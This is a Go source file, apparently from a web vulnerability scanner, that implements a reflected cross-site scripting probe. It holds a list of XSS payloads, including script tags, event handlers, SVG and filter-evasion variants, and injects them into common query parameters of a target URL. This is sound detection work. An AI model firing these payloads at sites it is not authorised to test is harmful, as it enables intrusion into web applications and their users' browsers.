package vuln

import (
	"context"
	"fmt"
	"strings"

	"github.com/buemura/surface/internal/scanner"
	"github.com/buemura/surface/pkg/types"
)

// xssParams are the parameter names tested for reflection.
var xssParams = []string{
	"q", "search", "query", "name", "username", "email",
	"comment", "message", "text", "input", "data",
}

// xssPayloads cover script tags, event handlers, attribute breaking, SVG,
// template syntax, and filter evasion.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<script>alert(document.domain)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<iframe onload=alert(1)>`,
	`<input onfocus=alert(1) autofocus>`,
	`"><script>alert(1)</script>`,
	`'"><img src=x onerror=alert(1)>`,
	`" autofocus onfocus=alert(1) x="`,
	`' onmouseover='alert(1)`,
	`javascript:alert(1)`,
	`<ScRiPt>alert(1)</ScRiPt>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`--><script>alert(1)</script><!--`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<a href=javascript:alert(1)>click</a>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`{{constructor.constructor('alert(1)')()}}`,
	`${alert(1)}`,
	`<img src=x onerror=alert` + "`1`" + `>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
}

type xssProbe struct{ base }

// NewXSS creates the reflected cross-site scripting probe.
func NewXSS(cfg Config) scanner.Probe {
	return &xssProbe{newBase(cfg, XSS, "Reflected cross-site scripting")}
}

func (p *xssProbe) Run(ctx context.Context, target types.Target, progress scanner.ProgressFunc) ([]types.Finding, error) {
	var findings []types.Finding

	for _, param := range xssParams {
		for _, payload := range xssPayloads {
			if ctx.Err() != nil {
				return findings, nil
			}
			progress.Notify(payload)

			testURL := withParam(target.URL, param, payload)
			resp, err := p.get(ctx, target, testURL)
			if err != nil {
				p.skip(payload, err)
				continue
			}

			if !strings.Contains(resp.Body, payload) {
				continue
			}

			findings = append(findings, types.Finding{
				Name:        "Cross-Site Scripting (XSS)",
				Severity:    types.SeverityHigh,
				Description: fmt.Sprintf("Parameter %q reflects user input without encoding, allowing script execution in the victim's browser.", param),
				Evidence:    fmt.Sprintf("Payload %q reflected in response from %s", payload, testURL),
				URL:         testURL,
				Remediation: "Apply context-aware output encoding, sanitize input, and deploy a Content-Security-Policy.",
				Metadata: map[string]string{
					"param":   param,
					"payload": payload,
				},
			})
			p.log.Warn("reflected XSS", "url", testURL, "param", param)
			break
		}
	}

	return findings, nil
}
